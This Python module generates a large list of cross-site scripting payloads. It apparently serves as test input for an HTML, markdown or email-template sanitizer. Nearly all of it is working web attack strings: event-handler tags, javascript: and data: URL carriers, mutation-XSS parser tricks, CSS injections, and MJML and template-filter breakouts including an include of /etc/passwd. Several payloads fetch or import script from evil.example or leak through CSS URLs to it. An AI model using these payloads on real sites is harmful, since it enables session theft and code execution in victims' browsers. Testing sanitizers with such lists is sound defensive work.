"""Script injections: every way to smuggle code into a page that we could think of.

`payloads()` takes turns among the families, so that a few of them are of many kinds.
"""

# ruff: noqa: E501 -- an injection is one line

from collections.abc import Iterator
from html import escape
from itertools import chain, cycle, product, zip_longest

_CODES = (
    "pwned()",
    "alert(1)",
    "top.pwned(1)",
    "fetch('https://evil.example/')",
    "import('https://evil.example/x.js')",
    "window['pwn'+'ed']()",
    "pwned`1`",
    "&#112;wned()",
    "setTimeout('pwned()')",
    "new Function('pwned()')()",
)
_TAGS = """img svg body video audio details input select marquee iframe object embed math a div form
button textarea style link table p x-custom mj-text""".split()
_HANDLERS = (
    "onerror",
    "onload",
    "autofocus tabindex=1 onfocus",
    "onmouseover",
    "open ontoggle",
    "onstart",
    "style=animation:x onanimationstart",
    "onbegin",
    "onpointerenter",
    "onclick",
)
_QUOTES = (
    "<{tag} src=x {on}={code}>",
    '<{tag} src=x {on}="{code}">',
    "<{tag} src=x {on}='{code}'>",
    "<{tag}/src=x/{on}={code}//",
    "<{tag}\nsrc=x\n{on}\n=\n{code}\n>",
    '"><{tag} src=x {on}={code}>',
    "'><{tag} src=x {on}={code}>",
    "<{tag} src=x {on}={code} ",
)
_SCHEMES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    " javascript:{code}",
    "\x01javascript:{code}",
    "java\tscript:{code}",
    "java\nscript:{code}",
    "javascript&colon;{code}",
    "&#106;avascript:{code}",
    "&#x6A;avascript&#58;{code}",
    "javascript://x%0a{code}",
    "javascript:/*--></title></style></textarea></script>*/{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    "vbscript:{code}",
    "blob:{code}",
    "view-source:javascript:{code}",
    "feed:javascript:{code}",
    "\u2028javascript:{code}",
    "//evil.example/%0ajavascript:{code}",
)
_CARRIERS = (
    "[x]({url})",
    "[x](<{url}>)",
    "![x]({url})",
    "<{url}>",
    '[x][r]\n\n[r]: <{url}> "t"',
    '<a href="{url}">x</a>',
    "<a href='{url}'>x</a>",
    "<a href={url}>x</a>",
    '<img src="{url}" alt="x">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>x</button></form>',
    '<button formaction="{url}">x</button>',
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<base href="{url}">',
    '<map><area href="{url}"></map>',
    '<math href="{url}">x</math>',
    '<link rel="stylesheet" href="{url}">',
    '<video poster="{url}"></video>',
    '<td background="{url}">x</td>',
)
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
    '<svg><style><img src="</style><img src=x onerror={code}>"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={code}&gt;">',
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='{code}'>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={code}>",
    '<svg></p><style><a id="</style><img src=1 onerror={code}>">',
    '<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror={code}>">',
    "<template><img src=x onerror={code}></template>",
    "<!--><img src=x onerror={code}>-->",
    "<!---><img src=x onerror={code}>-->",
    "<!-- --!><img src=x onerror={code}> -->",
    "<![CDATA[<img src=x onerror={code}>]]>",
    "<?xml ?><img src=x onerror={code}>?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={code}>'>]>",
    "<listing>&lt;img src=x onerror={code}&gt;</listing>",
    "<xmp><img src=x onerror={code}></xmp>",
    "<plaintext><img src=x onerror={code}>",
    "<noembed><img src=x onerror={code}></noembed>",
    "<noframes><img src=x onerror={code}></noframes>",
    '<iframe srcdoc="<img src=x onerror={code}>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;{code}&lt;/script&gt;"></iframe>',
    "<textarea><img title='</textarea><img src=x onerror={code}>'>",
    "<title><img title='</title><img src=x onerror={code}>'>",
    "<select><style></select><img src=x onerror={code}></style>",
    "<table><img src=x onerror={code}><tr><td>x</table>",
    "<a href='x' title='`onmouseover={code}`'>x</a>",
    "<img alt='``onerror={code}' src=`x`>",
    "<script>{code}</script>",
    "<ScRiPt>{code}</sCrIpT>",
    "<script/x>{code}</script/x>",
    "<script\x0c>{code}</script>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<<script>{code}//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,{code}></script>",
    "<svg><script>{code}</script></svg>",
    "<svg><script href=data:,{code} /></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{code} /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{code}'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{code}</script>'></iframe></foreignObject></svg>",
    "</p></div></td></tr></table></body></html><script>{code}</script>",
    "--></style></script></title></textarea><script>{code}</script>",
    "</head><body onload={code}>",
    "<body/onload={code}>",
    "<html onmouseover={code}>",
    "<frameset onload={code}><frame src=javascript:{code}></frameset>",
    "<isindex action=javascript:{code} type=image>",
    "<input type=image src=x onerror={code}>",
    "<keygen autofocus onfocus={code}>",
    "<dialog open onclose={code}><form method=dialog><button>x</button></form></dialog>",
    "<portal src='https://evil.example'></portal>",
)
_STYLES = (
    '<p style="background:url(javascript:{code})">x</p>',
    '<p style="width:expression({code})">x</p>',
    '<p style="behavior:url(\'#default#time2\')" onbegin="{code}">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<p style="background:url(&quot;</style><script>{code}</script>&quot;)">x</p>',
    '<p style="list-style:url(https://evil.example/leak)">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}*{font-family:x}</style>",
    "<style></style><img src=x onerror={code}></style>",
    "<style><!--</style><script>{code}//--></script>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=script href=https://evil.example/x.js>",
    "<link rel=import href=https://evil.example/x.html>",
    "<p class='\"><img src=x onerror={code}>'>x</p>",
    "<font color='\"onmouseover={code}//'>x</font>",
)
_TEMPLATES = (
    '{{ subscriber.name | default("<script>{code}</script>") }}',
    "{{ subscriber.name | default('\" onerror={code} x=\"') }}",
    "<a href=\"{{ subscriber.url | default('javascript:{code}') }}\">x</a>",
    '[x]({{ subscriber.url | default("javascript:{code}") }})',
    "{{ ''.__class__.__mro__ }}<script>{code}</script>",
    "{% raw %}<script>{code}</script>{% endraw %}",
    "{{ '<script>{code}</script>' | safe }}",
    "</mj-text><mj-raw><script>{code}</script></mj-raw><mj-text>",
    "<mj-raw><script>{code}</script></mj-raw>",
    "<mj-head><mj-raw><script>{code}</script></mj-raw></mj-head>",
    "<mj-style>x{}</style><script>{code}</script></mj-style>",
    '<mj-include path="/etc/passwd" />',
    "<mj-button href='javascript:{code}'>x</mj-button>",
    "<mj-image src='x' onerror='{code}' />",
    "mergefield0x0z<script>{code}</script>mergefield0x1z",
    "<!--[if mso]><script>{code}</script><![endif]-->",
    "<!--[if !mso]><!--><script>{code}</script><!--<![endif]-->",
    "<![endif]--><script>{code}</script><!--[if mso]>",
)
_MARKDOWN = (
    "`<script>{code}</script>`",
    "```html\n<script>{code}</script>\n```",
    '``` "><img/src=x/onerror={code}>\nx\n```',
    '[x](https://example.com/ "\'\\" onmouseover={code} x=")',
    '![" onerror={code} x="](https://example.com/x.png)',
    '![x](https://example.com/x.png"onerror="{code})',
    '[![x](x "onerror={code}")](javascript:{code})',
    "[<img src=x onerror={code}>](https://example.com/)",
    'https://example.com/"onmouseover="{code}',
    '<https://example.com/"onmouseover={code}>',
    "| a |\n|---|\n| <img src=x onerror={code}> |",
    "[^1]\n\n[^1]: <script>{code}</script>",
    "**<img src=x onerror={code}>:** x",
    "> <script>{code}</script>",
    "- <script>{code}</script>",
    "# <script>{code}</script>",
    "\\<script>{code}\\</script>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{code}&amp;lt;/script&amp;gt;",
    "&#60;script&#62;{code}&#60;/script&#62;",
    "&#x3c;img src=x onerror={code}&#x3e;",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "%3Cscript%3E{code}%3C/script%3E",
    "+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "＜script＞{code}＜/script＞",
    "<script\u200b>{code}</script>",
    "<\u0000script>{code}</script>",
    "<img src=x onerror\u000b={code}>",
    "<img src=x\u00a0onerror={code}>",
    "<s\u0131cript>{code}</s\u0131cript>",
    "{code}//<svg/onload={code}>//'\"`--></style></script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={code} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={code}//>\\x3e",
)


def payloads() -> list[str]:
    """All of them, each once; any beginning of the list holds something of every family."""
    turns = zip_longest(*(_filled(family) for family in _families()))
    return list(dict.fromkeys(payload for payload in chain.from_iterable(turns) if payload))


def _families() -> Iterator[list[str]]:
    handlers = [
        form.replace("{tag}", tag).replace("{on}", on)
        for form, (tag, on) in product(_QUOTES, zip(cycle(_TAGS), _HANDLERS * 12))
    ]
    for start in range(8):
        yield handlers[start::8]
    urls = [carrier.replace("{url}", url) for url in _SCHEMES for carrier in _CARRIERS]
    for start in range(3):
        yield urls[start::3]
    yield [escape(url) for url in _SCHEMES]
    for family in (_MUTATIONS, _STYLES, _TEMPLATES, _MARKDOWN):
        yield list(family)


def _filled(family: list[str]) -> Iterator[str]:
    """With code in it; the small families of rare forms come back with other code."""
    for shift in range(1 if len(family) > 60 else 4):
        for number, form in enumerate(family):
            yield form.replace("{code}", _CODES[(number + shift * 3) % len(_CODES)])
